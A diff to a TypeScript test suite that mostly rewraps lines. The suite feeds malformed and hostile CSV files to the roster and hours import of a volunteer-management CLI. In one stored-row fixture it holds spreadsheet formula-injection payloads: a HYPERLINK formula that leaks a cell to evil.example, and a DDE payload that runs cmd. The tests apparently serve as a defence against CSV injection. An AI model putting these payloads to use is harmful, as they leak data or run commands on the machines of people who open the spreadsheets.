@@ -34,7 +34,8 @@ const ROW_OK = 'V1,Ana,Okafor,ana@example.org,ok\n';
 /** Large or binary fixtures, generated rather than committed. */
 const generated: Record<string, () => Buffer> = {
   'roster-1mb-field.csv': () => Buffer.from(ROSTER_H + ROW_OK + 'V2,Sam,Lee,sam@example.org,' + 'x'.repeat(1 << 20) + '\n'),
-  'roster-1mb-quoted-multiline.csv': () => Buffer.from(ROSTER_H + ROW_OK + 'V2,Sam,Lee,sam@example.org,"' + 'y,\n'.repeat(1 << 18) + '"\nV3,Kim,Park,kim@example.org,ok\n'),
+  'roster-1mb-quoted-multiline.csv': () =>
+    Buffer.from(ROSTER_H + ROW_OK + 'V2,Sam,Lee,sam@example.org,"' + 'y,\n'.repeat(1 << 18) + '"\nV3,Kim,Park,kim@example.org,ok\n'),
   'roster-invalid-utf8.csv': () => Buffer.concat([Buffer.from(ROSTER_H + ROW_OK + 'V2,Jos'), Buffer.from([0xe9]), Buffer.from(',Lee,sam@example.org,x\n')]),
   'roster-utf16le-bom.csv': () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(ROSTER_H + ROW_OK, 'utf16le')]),
   'roster-utf16le-no-bom.csv': () => Buffer.from(ROSTER_H + ROW_OK, 'utf16le'),
@@ -61,7 +62,8 @@ const cases: Case[] = [
     kind: 'people',
     file: 'roster-pipe-delimited.csv',
     code: 3,
-    first: /^ngo: error: .*roster-pipe-delimited\.csv: line 1: no known column in the header \(external_id\|first_name\|last_name\|email\); is the first line a header\?$/,
+    first:
+      /^ngo: error: .*roster-pipe-delimited\.csv: line 1: no known column in the header \(external_id\|first_name\|last_name\|email\); is the first line a header\?$/,
     also: [/^hint: the columns seem to be separated by "\|": add --delimiter "\|"$/m],
   },
   {
@@ -73,7 +75,13 @@ const cases: Case[] = [
     first: /^inserted 2, updated 0, unchanged 0, skipped 0, invalid 0$/,
     after: (db) => expect(count(db, "SELECT count(*) AS n FROM people WHERE email IN ('ana@example.org','sam@example.org')")).toBe(2),
   },
-  { name: 'unterminated quote', kind: 'people', file: 'roster-unterminated-quote.csv', code: 3, first: /^ngo: error: .*roster-unterminated-quote\.csv: line 3: a quoted field is never closed \(unterminated quote\)$/ },
+  {
+    name: 'unterminated quote',
+    kind: 'people',
+    file: 'roster-unterminated-quote.csv',
+    code: 3,
+    first: /^ngo: error: .*roster-unterminated-quote\.csv: line 3: a quoted field is never closed \(unterminated quote\)$/,
+  },
   {
     name: 'ragged rows (short and long)',
     kind: 'people',
@@ -98,10 +106,34 @@ const cases: Case[] = [
     first: /^ngo: error: line 3, column "notes": notes is too long \(786431 characters; at most 2000\)$/,
     also: [/^ngo: error: 1 invalid row\(s\)/m],
   },
-  { name: 'invalid UTF-8 (a Windows-1252 é)', kind: 'people', file: 'roster-invalid-utf8.csv', code: 3, first: /^ngo: error: .*roster-invalid-utf8\.csv: line 3: invalid UTF-8 \(byte 0xE9; .*Windows-1252\)$/ },
-  { name: 'UTF-16 LE with BOM', kind: 'people', file: 'roster-utf16le-bom.csv', code: 3, first: /^ngo: error: .*roster-utf16le-bom\.csv looks like UTF-16; save it as UTF-8/ },
-  { name: 'UTF-16 LE without BOM (NUL bytes at once)', kind: 'people', file: 'roster-utf16le-no-bom.csv', code: 3, first: /^ngo: error: .*roster-utf16le-no-bom\.csv: line 1: NUL byte in the file/ },
-  { name: 'NUL byte in a row', kind: 'people', file: 'roster-nul-bytes.csv', code: 3, first: /^ngo: error: .*roster-nul-bytes\.csv: line 3: NUL byte in the file/ },
+  {
+    name: 'invalid UTF-8 (a Windows-1252 é)',
+    kind: 'people',
+    file: 'roster-invalid-utf8.csv',
+    code: 3,
+    first: /^ngo: error: .*roster-invalid-utf8\.csv: line 3: invalid UTF-8 \(byte 0xE9; .*Windows-1252\)$/,
+  },
+  {
+    name: 'UTF-16 LE with BOM',
+    kind: 'people',
+    file: 'roster-utf16le-bom.csv',
+    code: 3,
+    first: /^ngo: error: .*roster-utf16le-bom\.csv looks like UTF-16; save it as UTF-8/,
+  },
+  {
+    name: 'UTF-16 LE without BOM (NUL bytes at once)',
+    kind: 'people',
+    file: 'roster-utf16le-no-bom.csv',
+    code: 3,
+    first: /^ngo: error: .*roster-utf16le-no-bom\.csv: line 1: NUL byte in the file/,
+  },
+  {
+    name: 'NUL byte in a row',
+    kind: 'people',
+    file: 'roster-nul-bytes.csv',
+    code: 3,
+    first: /^ngo: error: .*roster-nul-bytes\.csv: line 3: NUL byte in the file/,
+  },
   { name: 'file does not exist', kind: 'people', file: 'no-such-file.csv', code: 6, first: /^ngo: error: cannot read .*no-such-file\.csv: no such file$/ },
   { name: 'a directory instead of a file', kind: 'hours', file: '.', code: 6, first: /^ngo: error: cannot read .*: is a directory$/ },
 
@@ -113,12 +145,35 @@ const cases: Case[] = [
     code: 0,
     first: /^inserted 2, updated 0, unchanged 0, skipped 0, invalid 0$/,
     after: async (db, run) => {
-      const stored = withRaw(db, (d) => d.prepare("SELECT external_id, first_name, last_name, email, phone, city, postal_code, notes FROM people ORDER BY id").all());
+      const stored = withRaw(db, (d) =>
+        d.prepare('SELECT external_id, first_name, last_name, email, phone, city, postal_code, notes FROM people ORDER BY id').all(),
+      );
       expect(stored).toEqual([
-        { external_id: '=V1', first_name: '=Ana', last_name: '+Okafor', email: '-ana@example.org', phone: '-5550100', city: '@Boston', postal_code: '-02134', notes: '=HYPERLINK("http://evil.example/?x="&A1,"click")' },
-        { external_id: '+V2', first_name: '-Sam', last_name: '@Lee', email: '=sam@example.org', phone: '+1 555 0101', city: '-Springfield', postal_code: '=60601', notes: "@SUM(1+1)*cmd|' /C calc'!A0" },
+        {
+          external_id: '=V1',
+          first_name: '=Ana',
+          last_name: '+Okafor',
+          email: '-ana@example.org',
+          phone: '-5550100',
+          city: '@Boston',
+          postal_code: '-02134',
+          notes: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        },
+        {
+          external_id: '+V2',
+          first_name: '-Sam',
+          last_name: '@Lee',
+          email: '=sam@example.org',
+          phone: '+1 555 0101',
+          city: '-Springfield',
+          postal_code: '=60601',
+          notes: "@SUM(1+1)*cmd|' /C calc'!A0",
+        },
       ]);
-      for (const args of [['people', 'export'], ['people', 'list', '--format', 'csv']]) {
+      for (const args of [
+        ['people', 'export'],
+        ['people', 'list', '--format', 'csv'],
+      ]) {
         const r = await run(args);
         expect(r.code).toBe(0);
         const rows = parseCsv(r.stdout);
@@ -169,7 +224,9 @@ const cases: Case[] = [
     code: 0,
     after: (db, _run, out) => {
       expect(out.stderr).toContain('inserted 1, updated 0, unchanged 0, skipped 0, invalid 1');
-      expect(withRaw(db, (d) => d.prepare('SELECT external_id, email, notes FROM people').all())).toEqual([{ external_id: 'V1', email: 'ana@example.org', notes: 'first' }]);
+      expect(withRaw(db, (d) => d.prepare('SELECT external_id, email, notes FROM people').all())).toEqual([
+        { external_id: 'V1', email: 'ana@example.org', notes: 'first' },
+      ]);
     },
   },
   {
@@ -199,16 +256,14 @@ const cases: Case[] = [
       ['hours-unknown-person.csv', 'external_id', /no person with external id "V999"/],
       ['hours-unknown-program.csv', 'program', /unknown program "NOPE"; add it with ngo programs add, or use --create-programs/],
     ] as [string, string, RegExp][]
-  ).map(
-    ([file, column, msg]): Case => ({
-      name: `${file}: line 3, column ${column}`,
-      kind: 'hours',
-      file,
-      code: 3,
-      first: new RegExp(`^ngo: error: line 3, column "${column}": ${msg.source}`),
-      also: [ROWS_FAILED],
-    }),
-  ),
+  ).map(([file, column, msg]): Case => ({
+    name: `${file}: line 3, column ${column}`,
+    kind: 'hours',
+    file,
+    code: 3,
+    first: new RegExp(`^ngo: error: line 3, column "${column}": ${msg.source}`),
+    also: [ROWS_FAILED],
+  })),
 ];
 
 let dir: string;
@@ -238,7 +293,11 @@ describe('bad and hostile import files', () => {
     const run = withDb(db);
     const file = c.file in generated ? path.join(dir, c.file) : path.join(FIX, c.file);
     const before = dbHash(db);
-    const counts = () => [count(db, 'SELECT count(*) AS n FROM people'), count(db, 'SELECT count(*) AS n FROM hours'), count(db, 'SELECT count(*) AS n FROM imports')];
+    const counts = () => [
+      count(db, 'SELECT count(*) AS n FROM people'),
+      count(db, 'SELECT count(*) AS n FROM hours'),
+      count(db, 'SELECT count(*) AS n FROM imports'),
+    ];
     const countsBefore = counts();
     const r = await run([c.kind, 'import', file, ...(c.args ?? [])]);
     expect(r.code, r.stderr).toBe(c.code);
